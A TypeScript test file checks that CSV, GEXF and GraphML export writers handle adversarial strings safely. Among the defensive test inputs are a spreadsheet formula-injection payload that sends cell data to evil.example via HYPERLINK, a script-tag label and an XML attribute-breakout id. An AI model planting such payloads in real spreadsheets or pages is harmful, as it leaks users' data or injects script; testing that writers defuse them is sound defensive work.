// The CSV, GEXF and GraphML writers against adversary-written strings: CSV round-trips through an RFC 4180
// reader and defuses formulas; the XML passes a strict well-formedness check (and Python's expat, when
// present), declares the right attribute types, and is byte-for-byte reproducible.
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, readdir, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from 'node:test';
import { seededRandom } from '@lockstep/generate';
import { CSV_DEFAULTS, type CsvCell, toCsv, writeCsv } from '../../src/report/csv.js';
import { type ExportGraph, GRAPH_EXPORT_DEFAULTS, toGexf, writeGexf } from '../../src/report/gexf.js';
import { toGraphml, writeGraphml } from '../../src/report/graphml.js';
import { parseCsv as readCsv } from '../../src/report/html/index.js';

const PERSIAN = 'سلام دنیا، #ایران_آزاد';
const LONE_SURROGATE = '\ud800';

// ---- CSV ------------------------------------------------------------------------------------------------

/** A strict RFC 4180 reader (the oracle): fails on a stray quote, so bad quoting cannot pass unnoticed. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let i = 0;
  while (i < text.length) {
    if (text[i] === '"' && cell === '') {
      i++;
      for (;;) {
        assert.ok(i < text.length, 'unterminated quoted cell');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            cell += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        cell += text[i++];
      }
      assert.ok(i === text.length || text[i] === ',' || text[i] === '\n', `junk after quoted cell at ${i}`);
      continue;
    }
    const ch = text[i++];
    if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
    } else {
      assert.ok(ch !== '"' && ch !== '\r', `unquoted ${JSON.stringify(ch)} at ${i - 1}`);
      cell += ch;
    }
  }
  assert.equal(cell + row.join(''), '', 'last line must end with \\n');
  return rows;
}

test('CSV cells with commas, quotes, newlines and Persian text round-trip', () => {
  const cells = ['a,b', 'say "hi"', 'line1\nline2', 'crlf\r\nend', PERSIAN, '"', '', ' spaced ', 'plain'];
  const csv = toCsv(
    ['text', 'n'],
    cells.map((c, i) => [c, i]),
  );
  assert.ok(!csv.startsWith('\ufeff'), 'no BOM');
  assert.deepEqual(parseCsv(csv), [['text', 'n'], ...cells.map((c, i) => [c, String(i)])]);
  assert.equal(Buffer.from(csv, 'utf8').toString('utf8'), csv);
});

test("the report's CSV reader reads back what the writer wrote, hostile cells included", () => {
  // readRunFiles and lockstep serve read edges.csv with this reader; it must agree with the strict one.
  const rnd = seededRandom(11);
  const pieces = ['a', ',', '"', '\n', '\r', '\r\n', PERSIAN, '=1', ' ', '""', LONE_SURROGATE];
  const rows: CsvCell[][] = Array.from({ length: 400 }, () =>
    Array.from({ length: 3 }, () =>
      Array.from({ length: Math.floor(rnd() * 6) }, () => pieces[Math.floor(rnd() * pieces.length)]).join(''),
    ),
  );
  const csv = toCsv(['x', 'y', 'z'], rows);
  assert.deepEqual(readCsv(csv), parseCsv(csv));
});

test('CSV defuses formulas in string cells only', () => {
  const formulas = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    '+1',
    '-2+3',
    '@SUM(A1:A9)',
    '\tx',
    '\r=1',
  ];
  const rows = parseCsv(
    toCsv(
      ['cell'],
      formulas.map((f) => [f]),
    ),
  );
  assert.deepEqual(
    rows.slice(1).map((r) => r[0]),
    formulas.map((f) => `'${f}`),
  );
  assert.equal(toCsv(['n'], [[-5]]), 'n\n-5\n');
  assert.equal(toCsv(['n'], [[-0.25]]), 'n\n-0.25\n');
  // Only the first character matters: a formula sign further in is harmless text.
  assert.equal(toCsv(['s'], [['a=1+2']]), 's\na=1+2\n');
});

test('CSV writes empty, boolean and numeric cells as documented', () => {
  const row: CsvCell[] = [
    null,
    undefined,
    Number.NaN,
    Number.POSITIVE_INFINITY,
    true,
    false,
    1e21,
    0.1,
    -0,
    2 ** 53,
  ];
  assert.equal(
    toCsv(['a', 'b', 'c', 'd', 'e', 'f', 'g', 'h', 'i', 'j'], [row]).split('\n')[1],
    ',,,,true,false,1000000000000000000000,0.1,0,9007199254740992',
  );
});

test('CSV cells are bounded, NULs stripped, surrogate pairs kept whole', () => {
  const max = CSV_DEFAULTS.maxCellChars;
  const [, long] = parseCsv(toCsv(['t'], [['x'.repeat(max + 5000)]]));
  assert.equal(long?.[0]?.length, max);
  assert.ok(long?.[0]?.endsWith('…'));
  // The `'` that defuses a formula counts towards the bound too.
  const [, formula] = parseCsv(toCsv(['t'], [[`=${'y'.repeat(max)}`]]));
  assert.equal(formula?.[0]?.length, max);
  assert.ok(formula?.[0]?.startsWith("'="));
  // Cutting between the halves of 😀 would leave a lone surrogate: the cut steps back instead.
  const emoji = toCsv(['t'], [['ab😀cd']], { maxCellChars: 4 }).split('\n')[1];
  assert.equal(emoji, 'ab…');
  assert.equal(toCsv(['t'], [['a\0b\0']]), 't\nab\n');
  assert.equal(toCsv(['t'], [['x'.repeat(max)]]).length, 2 + max + 1, 'a cell at the limit is kept whole');
});

test('CSV rejects a row whose width differs from the header', () => {
  assert.throws(() => toCsv(['a', 'b'], [['1', '2'], ['3']]), /row 2 has 1 cells but the header has 2/);
});

test('writeCsv streams the same bytes as toCsv and leaves no partial file on failure', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'lockstep-csv-'));
  try {
    const rows: CsvCell[][] = Array.from({ length: 20_000 }, (_, i) => [
      i,
      `=row ${i}, "${PERSIAN}"`,
      i % 2 === 0,
    ]);
    async function* source() {
      yield* rows;
    }
    const path = join(dir, 'out.csv');
    assert.equal(await writeCsv(path, ['i', 'text', 'even'], source()), rows.length);
    assert.equal(await readFile(path, 'utf8'), toCsv(['i', 'text', 'even'], rows));

    function* failing(): Generator<CsvCell[]> {
      yield ['1'];
      throw new Error('source failed');
    }
    await assert.rejects(writeCsv(join(dir, 'bad.csv'), ['a'], failing()), /source failed/);
    assert.deepEqual(await readdir(dir), ['out.csv']);
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

// ---- GEXF and GraphML -----------------------------------------------------------------------------------

// Characters XML 1.0 cannot hold at all: C0 controls except TAB/LF/CR, U+FFFE/U+FFFF, lone surrogates.
const NOT_XML = /[^\t\n\r\u0020-\uD7FF\uE000-\uFFFD\u{10000}-\u{10FFFF}]/u;
const ENTITY = '&(?:amp|lt|gt|quot|apos|#[0-9]+|#x[0-9a-fA-F]+);';
const NAME = '[A-Za-z_][A-Za-z0-9_.:-]*';
const ATTR = `\\s+(${NAME})="(?:[^"<&]|${ENTITY})*"`;
// ATTR's name group is only for listing names; inside TOKEN it must not shift the groups after it.
const TOKEN = new RegExp(`<(/?)(${NAME})((?:${ATTR.replace('(', '(?:')})*)\\s*(/?)>|[^<&]+|${ENTITY}`, 'y');

/**
 * A strict well-formedness check, standing in for an XML parser (Node has none): the prolog, then only
 * tags with quoted attributes, escaped text and known entities, properly nested under one root, with no
 * attribute repeated on an element. Returns the root element's name.
 */
function assertWellFormed(xml: string): string {
  assert.ok(!NOT_XML.test(xml), 'a character XML 1.0 does not allow');
  const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n';
  assert.ok(xml.startsWith(prolog));
  const stack: string[] = [];
  let root = '';
  TOKEN.lastIndex = prolog.length;
  while (TOKEN.lastIndex < xml.length) {
    const at = TOKEN.lastIndex;
    const m = TOKEN.exec(xml);
    assert.ok(m, `not well-formed at ${at}: ${JSON.stringify(xml.slice(at, at + 60))}`);
    const [token, closing, name, attrs, selfClosing] = m;
    if (name === undefined) {
      assert.ok(stack.length > 0 || token.trim() === '', `text outside the root at ${at}`);
      continue;
    }
    if (closing) {
      assert.equal(stack.pop(), name, `mismatched </${name}> at ${at}`);
      continue;
    }
    const names = [...(attrs ?? '').matchAll(new RegExp(ATTR, 'g'))].map((a) => a[1]);
    assert.equal(new Set(names).size, names.length, `repeated attribute on <${name}> at ${at}`);
    if (stack.length === 0) {
      assert.equal(root, '', 'more than one root element');
      root = name;
    }
    if (!selfClosing) stack.push(name);
  }
  assert.deepEqual(stack, [], 'unclosed elements');
  return root;
}

function unescapeXml(text: string): string {
  return text.replace(/&(amp|lt|gt|quot|apos|#[0-9]+);/g, (_, e: string) =>
    e.startsWith('#')
      ? String.fromCodePoint(Number(e.slice(1)))
      : (({ amp: '&', lt: '<', gt: '>', quot: '"', apos: "'" } as Record<string, string>)[e] ?? ''),
  );
}

/** Every value of `attr` on `<tag …>` elements, unescaped. */
function attrValues(xml: string, tag: string, attr: string): string[] {
  const re = new RegExp(`<${tag}\\s[^>]*?\\b${attr}="([^"]*)"`, 'g');
  return [...xml.matchAll(re)].map((m) => unescapeXml(m[1] ?? ''));
}

test('the well-formedness check rejects broken XML', () => {
  const prolog = '<?xml version="1.0" encoding="UTF-8"?>\n';
  assert.equal(assertWellFormed(`${prolog}<a x="1"><b/>t &amp; u</a>\n`), 'a');
  for (const broken of [
    '<a x="<"/>',
    '<a x="1" x="2"/>',
    '<a>&nbsp;</a>',
    '<a>AT&T</a>',
    '<a><b></a></b>',
    '<a/><b/>',
    '<a>\u0001</a>',
    `<a>${LONE_SURROGATE}</a>`,
    '<a x="1>',
    '<a>',
  ]) {
    assert.throws(() => assertWellFormed(prolog + broken), assert.AssertionError, broken);
  }
});

const HOSTILE_LABEL = `<script>alert("x")</script> & 'co' \u0000nul ${LONE_SURROGATE}lone\ufffe\u0007`;
const HOSTILE_LABEL_CLEAN = `<script>alert("x")</script> & 'co' nul lone`;

function hostileGraph(): ExportGraph {
  return {
    nodes: [
      {
        id: '"><evil id="1',
        label: HOSTILE_LABEL,
        attributes: { network: 3, handle: '@bad"<', centrality: 0.12, posts: 40, verified: false },
      },
      {
        id: 'حساب ۱',
        label: PERSIAN,
        attributes: {
          network: 3,
          handle: 'tab\there\nline\r',
          centrality: 1,
          posts: 3_000_000_000,
          verified: true,
        },
      },
      // Same id as the next node once the NUL is removed: the genuine `plain` must keep its id.
      { id: 'plain\u0000', label: 'nul twin', attributes: { network: null, handle: null } },
      { id: 'plain', label: 'plain', attributes: { network: 4, handle: 'x'.repeat(5_000), mixed: 1 } },
      { id: 'm', label: '', attributes: { network: 2, mixed: 'two', posts: 1 } },
    ],
    edges: [
      {
        source: '"><evil id="1',
        target: 'حساب ۱',
        weight: 2.1,
        attributes: { corepost: 2.1, cohashtag: 0.4 },
      },
      { source: 'plain\u0000', target: 'plain', weight: 1, attributes: { corepost: 1, cohashtag: null } },
      { source: 'plain', target: 'm', weight: 0.5, attributes: { corepost: 0, cohashtag: 1e-7 } },
    ],
  };
}

test('GEXF from hostile labels and ids is well-formed and round-trips the cleaned values', () => {
  const gexf = toGexf(hostileGraph(), { creator: 'lockstep <test>', description: 'a & b' });
  assert.equal(assertWellFormed(gexf), 'gexf');
  assert.match(gexf, /<gexf xmlns="http:\/\/gexf\.net\/1\.3"[^>]* version="1\.3">/);
  assert.match(gexf, /<graph defaultedgetype="undirected"/);
  assert.match(gexf, /&lt;script&gt;alert\(&quot;x&quot;\)&lt;\/script&gt; &amp; &apos;co&apos;/);
  assert.match(gexf, /<creator>lockstep &lt;test&gt;<\/creator>/);
  assert.ok(!gexf.includes('<script>') && !gexf.includes('lastmodifieddate'));

  const labels = attrValues(gexf, 'node', 'label');
  assert.equal(labels[0], HOSTILE_LABEL_CLEAN);
  assert.equal(labels[1], PERSIAN);
  const ids = attrValues(gexf, 'node', 'id');
  assert.deepEqual(ids, ['"><evil id="1', 'حساب ۱', 'plain~2', 'plain', 'm']);
  assert.deepEqual(attrValues(gexf, 'edge', 'source'), ['"><evil id="1', 'plain~2', 'plain']);
  assert.deepEqual(attrValues(gexf, 'edge', 'target'), ['حساب ۱', 'plain', 'm']);
  assert.deepEqual(attrValues(gexf, 'edge', 'weight'), ['2.1', '1', '0.5']);
  // TAB, LF and CR survive as character references (a parser would turn them into spaces otherwise).
  assert.ok(attrValues(gexf, 'attvalue', 'value').includes('tab\there\nline\r'));
});

test('GraphML from hostile labels and ids is well-formed and round-trips the cleaned values', () => {
  const graphml = toGraphml(hostileGraph());
  assert.equal(assertWellFormed(graphml), 'graphml');
  assert.match(graphml, /<graph id="G" edgedefault="undirected">/);
  assert.match(graphml, /<key id="weight" for="edge" attr\.name="weight" attr\.type="double"\/>/);
  const labels = [...graphml.matchAll(/<data key="label">([^<]*)<\/data>/g)].map((m) =>
    unescapeXml(m[1] ?? ''),
  );
  assert.deepEqual(labels, [HOSTILE_LABEL_CLEAN, PERSIAN, 'nul twin', 'plain', '']);
  assert.deepEqual(attrValues(graphml, 'node', 'id'), ['"><evil id="1', 'حساب ۱', 'plain~2', 'plain', 'm']);
  assert.deepEqual(attrValues(graphml, 'edge', 'source'), ['"><evil id="1', 'plain~2', 'plain']);
  const weights = [...graphml.matchAll(/<data key="weight">([^<]*)<\/data>/g)].map((m) => m[1]);
  assert.deepEqual(weights, ['2.1', '1', '0.5']);
});

test('attribute types are inferred from the values, nulls omitted', () => {
  const gexf = toGexf(hostileGraph());
  const declared = (xml: string, re: RegExp) =>
    Object.fromEntries([...xml.matchAll(re)].map((m) => [unescapeXml(m[1] ?? ''), m[2]]));
  const [nodeBlock = '', edgeBlock = ''] = gexf.split('<attributes class="edge">');
  assert.deepEqual(declared(nodeBlock, /<attribute id="\d+" title="([^"]*)" type="(\w+)"/g), {
    network: 'integer',
    handle: 'string',
    centrality: 'double',
    posts: 'long', // 3e9 does not fit Gephi's 32-bit integer
    verified: 'boolean',
    mixed: 'string',
  });
  assert.deepEqual(declared(edgeBlock, /<attribute id="\d+" title="([^"]*)" type="(\w+)"/g), {
    corepost: 'double',
    cohashtag: 'double',
  });
  const graphml = toGraphml(hostileGraph());
  assert.deepEqual(declared(graphml, /<key id="d\d+" for="node" attr\.name="([^"]*)" attr\.type="(\w+)"/g), {
    network: 'int',
    handle: 'string',
    centrality: 'double',
    posts: 'long',
    verified: 'boolean',
    mixed: 'string',
  });
  // The nul twin has only nulls: no attvalues at all, and `cohashtag: null` is left out of its edge.
  assert.match(gexf, /<node id="plain~2" label="nul twin"\/>/);
  assert.match(
    gexf,
    /<edge id="1" source="plain~2" target="plain" weight="1">\n {8}<attvalues>\n {10}<attvalue for="0" value="1"\/>\n {8}<\/attvalues>/,
  );
  assert.match(graphml, /<data key="d\d+">1e-7<\/data>/);
});

test('string attributes and labels are bounded', () => {
  const values = attrValues(toGexf(hostileGraph()), 'attvalue', 'value');
  const long = values.find((v) => v.startsWith('xxx'));
  assert.equal(long?.length, GRAPH_EXPORT_DEFAULTS.maxStringChars);
  assert.ok(long?.endsWith('…'));
  const short = toGraphml(hostileGraph(), { maxStringChars: 10 });
  assert.match(short, /<data key="label">&lt;script&gt;a…<\/data>/);
  // Ids are bounded too; the two that now share a prefix stay apart.
  assert.deepEqual(attrValues(short, 'node', 'id'), ['"><evil i…', 'حساب ۱', 'plain~2', 'plain', 'm']);
});

test('GEXF and GraphML output is deterministic', () => {
  assert.equal(toGexf(hostileGraph()), toGexf(hostileGraph()));
  assert.equal(toGraphml(hostileGraph()), toGraphml(hostileGraph()));
  assert.match(
    toGexf(hostileGraph(), { lastModifiedDate: '2024-05-01' }),
    /<meta lastmodifieddate="2024-05-01">/,
  );
});

test('graph writers reject graphs that would mislabel the export', () => {
  const graph = hostileGraph();
  const first = graph.nodes[0];
  assert.ok(first);
  assert.throws(() => toGexf({ ...graph, nodes: [...graph.nodes, first] }), /is not unique/);
  assert.throws(
    () => toGraphml({ ...graph, edges: [{ source: 'm', target: 'nobody', weight: 1, attributes: {} }] }),
    /edge 0: target "nobody" is not a node/,
  );
  assert.throws(
    () => toGexf({ ...graph, edges: [{ source: 'm', target: 'm', weight: Number.NaN, attributes: {} }] }),
    /weight NaN is not finite/,
  );
  assert.throws(
    () => toGraphml({ nodes: [{ id: 'a', label: 'a', attributes: { Label: 'x' } }], edges: [] }),
    /node attribute "Label" clashes/,
  );
});

test('writeGexf and writeGraphml write the same bytes as the string forms', async () => {
  const dir = await mkdtemp(join(tmpdir(), 'lockstep-graph-'));
  try {
    await writeGexf(join(dir, 'g.gexf'), hostileGraph());
    await writeGraphml(join(dir, 'g.graphml'), hostileGraph());
    assert.equal(await readFile(join(dir, 'g.gexf'), 'utf8'), toGexf(hostileGraph()));
    assert.equal(await readFile(join(dir, 'g.graphml'), 'utf8'), toGraphml(hostileGraph()));
  } finally {
    await rm(dir, { recursive: true, force: true });
  }
});

// A real parser as a second opinion where one is installed; the check above must stand without it.
const python = ['/usr/bin/python3', '/usr/local/bin/python3'].find((p) => existsSync(p));
test('a real XML parser (Python expat) reads the same ids and labels', {
  skip: !python && 'no python3',
}, () => {
  const script = `
import json, sys, xml.dom.minidom as m
doc = m.parseString(sys.stdin.buffer.read())
nodes = doc.getElementsByTagName('node')
print(json.dumps([[n.getAttribute('id'), n.getAttribute('label')] for n in nodes]))`;
  const run = (xml: string) =>
    JSON.parse(execFileSync(python ?? '', ['-c', script], { input: xml, encoding: 'utf8' }));
  assert.deepEqual(run(toGexf(hostileGraph())), [
    ['"><evil id="1', HOSTILE_LABEL_CLEAN],
    ['حساب ۱', PERSIAN],
    ['plain~2', 'nul twin'],
    ['plain', 'plain'],
    ['m', ''],
  ]);
  assert.deepEqual(
    run(toGraphml(hostileGraph())).map((pair: string[]) => pair[0]),
    ['"><evil id="1', 'حساب ۱', 'plain~2', 'plain', 'm'],
  );
});
